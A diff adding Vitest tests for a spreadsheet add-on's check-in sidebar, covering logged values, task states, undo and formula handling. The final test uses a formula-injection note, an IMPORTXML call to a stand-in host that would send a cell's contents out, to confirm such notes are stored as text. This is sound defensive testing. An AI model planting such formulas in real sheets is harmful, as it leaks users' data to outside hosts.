@@ -1,0 +1,178 @@
+import { describe, expect, it } from 'vitest';
+import type {
+  CheckInBatch,
+  CheckInOpened,
+  CheckInSaved,
+} from '../../../src/addon/sidebars/check-in-contract';
+import { serialOfDay } from '../../../src/plan/day';
+import { day } from '../../plan/plan-rows';
+import { Example, PRIYA } from '../../sidebars/example';
+
+const open = (example: Example, who = '') => example.ask('openCheckIn', { who }).value as CheckInOpened;
+const save = (example: Example, batch: Partial<CheckInBatch>) =>
+  example.ask('saveCheckIn', { who: 'Ingrid Solvang', work: [], tasks: [], ...batch }).value as CheckInSaved;
+const logged = (example: Example, count: number) =>
+  example
+    .rows('Check-ins')
+    .slice(-count)
+    .map(({ cells }) => cells);
+
+describe('opening', () => {
+  it('knows who is signed in, and shows what is theirs and has begun', async () => {
+    const example = await Example.open();
+    const { me, who, work, tasks } = open(example);
+    expect([me, who]).toEqual(['Ingrid Solvang', 'Ingrid Solvang']);
+    expect(work.map(({ id }) => id)).toEqual(['M4', 'M2', 'G1']);
+    expect(tasks.map(({ id }) => id)).toEqual(['T13']);
+  });
+
+  it('shows the last value, what is expected today, and the chart of both', async () => {
+    const example = await Example.open();
+    const m2 = open(example).work.find(({ id }) => id === 'M2')!;
+    expect(m2).toMatchObject({
+      isMeasured: true,
+      last: '22',
+      lastOn: '23 Nov',
+      lastConfidence: 'Amber',
+      expected: '30',
+      target: '40',
+    });
+    expect(m2.chart!.reports[m2.chart!.reports.length - 1]).toEqual({ on: '2026-11-23', value: 22 });
+    expect(m2.chart!.plan[0]!.value).toBe(0);
+    expect(m2.chart!.plan[m2.chart!.plan.length - 1]!.value).toBe(40);
+  });
+
+  it('asks once who somebody is whose address is hidden', async () => {
+    const example = await Example.open({ user: '' });
+    expect(open(example)).toMatchObject({ me: '', who: '', work: [] });
+    expect(example.ask('rememberMe', { name: 'Mei Tanaka' }).value).toMatchObject({ me: 'Mei Tanaka' });
+    expect(open(example)).toMatchObject({ me: 'Mei Tanaka', who: 'Mei Tanaka' });
+  });
+});
+
+describe('saving', () => {
+  it('logs values, confidence and notes, brings Current up to date, and the statuses follow', async () => {
+    const example = await Example.open();
+    const { saved, problems } = save(example, {
+      work: [
+        { id: 'M2', value: '33', confidence: 'Green', note: 'All back.' },
+        { id: 'M4', value: '', confidence: 'Red', note: '' },
+      ],
+    });
+    expect(problems).toEqual([]);
+    expect(saved.map(({ id }) => id)).toEqual(['M2', 'M4']);
+    expect(example.row('Milestones', 'M2').cells.Current).toBe(33);
+    expect(logged(example, 2)).toEqual([
+      expect.objectContaining({
+        When: serialOfDay(day('2026-11-23')),
+        Item: 'M2 · Move forty clients to the new monitoring',
+        By: 'Ingrid Solvang',
+        Value: 33,
+        Confidence: 'Green',
+        Note: 'All back.',
+      }),
+      expect.objectContaining({ Value: '', Confidence: 'Red' }),
+    ]);
+    expect(saved[0]!.status).toBe('Green');
+  });
+
+  it('logs a value once: the next refresh finds nothing new in it', async () => {
+    const example = await Example.open();
+    save(example, { work: [{ id: 'M2', value: '33', confidence: '', note: '' }] });
+    const count = example.rows('Check-ins').length;
+    example.script.run('refreshStatus');
+    expect(example.rows('Check-ins')).toHaveLength(count);
+  });
+
+  it('marks tasks done, blocked or moved, and logs what was not done', async () => {
+    const example = await Example.open();
+    save(example, {
+      tasks: [
+        { id: 'T13', answer: 'done', due: '', note: '' },
+        { id: 'T8', answer: 'blocked', due: '', note: 'No access.' },
+        { id: 'T23', answer: 'move', due: '2026-12-04', note: 'Exam dates' },
+        { id: 'T37', answer: 'not done', due: '', note: '' },
+      ],
+    });
+    expect(example.row('Tasks', 'T13').cells).toMatchObject({
+      State: 'Done',
+      'Done on': serialOfDay(day('2026-11-23')),
+    });
+    expect(example.row('Tasks', 'T8').cells.State).toBe('Blocked');
+    expect(example.row('Tasks', 'T23').cells.Due).toBe(serialOfDay(day('2026-12-04')));
+    expect(logged(example, 4).map(({ Note }) => Note)).toEqual([
+      'Done.',
+      'Blocked. No access.',
+      'Moved from 27 Nov to 4 Dec. Exam dates',
+      'Not done yet.',
+    ]);
+  });
+
+  it('records who checked in for somebody else', async () => {
+    const example = await Example.open({ user: PRIYA });
+    save(example, { work: [{ id: 'M2', value: '30', confidence: '', note: 'By phone.' }] });
+    expect(logged(example, 1)[0]).toMatchObject({
+      By: 'Priya Raman',
+      Note: 'On behalf of Ingrid Solvang. By phone.',
+    });
+  });
+
+  it('saves nothing where a value cannot be read, and says which', async () => {
+    const example = await Example.open();
+    const before = structuredClone(example.addOn.workbook);
+    const { problems, saved } = save(example, {
+      work: [
+        { id: 'M2', value: 'nearly', confidence: '', note: '' },
+        { id: 'M4', value: '9', confidence: '', note: '' },
+      ],
+    });
+    expect(problems).toEqual([
+      { id: 'M2', field: 'value', message: expect.stringContaining('"nearly" is not a number') },
+    ]);
+    expect(saved).toEqual([]);
+    expect(example.addOn.workbook).toEqual(before);
+  });
+
+  it('names rows that were deleted meanwhile, and saves the others', async () => {
+    const example = await Example.open();
+    example.deleteRow('Milestones', 'M4');
+    const { gone, saved } = save(example, {
+      work: [
+        { id: 'M4', value: '9', confidence: '', note: '' },
+        { id: 'M2', value: '30', confidence: '', note: '' },
+      ],
+    });
+    expect(gone).toEqual(['M4']);
+    expect(saved.map(({ id }) => id)).toEqual(['M2']);
+    expect(example.row('Milestones', 'M2').cells.Current).toBe(30);
+  });
+
+  it("leaves a cell that holds somebody's formula to it", async () => {
+    const example = await Example.open();
+    const { row } = example.row('Milestones', 'M2');
+    example.script.hand().type(`Milestones!H${row}`, '=11+11');
+    save(example, { work: [{ id: 'M2', value: '30', confidence: '', note: '' }] });
+    expect(example.cell('Milestones', 'M2', 'Current').formula).toBe('=11+11');
+  });
+
+  it('is taken back by Undo', async () => {
+    const example = await Example.open();
+    const before = ['Milestones', 'Tasks', 'Check-ins'].map(name => example.rows(name));
+    const { undo } = save(example, {
+      work: [{ id: 'M2', value: '30', confidence: 'Green', note: '=1+1' }],
+      tasks: [{ id: 'T13', answer: 'done', due: '', note: '' }],
+    });
+    example.ask('undoAction', undo);
+    expect(['Milestones', 'Tasks', 'Check-ins'].map(name => example.rows(name))).toEqual(before);
+  });
+
+  it('keeps a note that looks like a formula as a note', async () => {
+    const example = await Example.open();
+    const note = '=IMPORTXML("http://example.com/"&A1,"//a")';
+    save(example, { work: [{ id: 'M2', value: '', confidence: 'Green', note }] });
+    const { row } = example.rows('Check-ins').pop()!;
+    const cell = example.sheet('Check-ins').rows[row - 1]!.find(each => String(each?.value).startsWith('='))!;
+    expect(cell.formula).toBeUndefined();
+    expect(cell.value).toBe(note);
+  });
+});
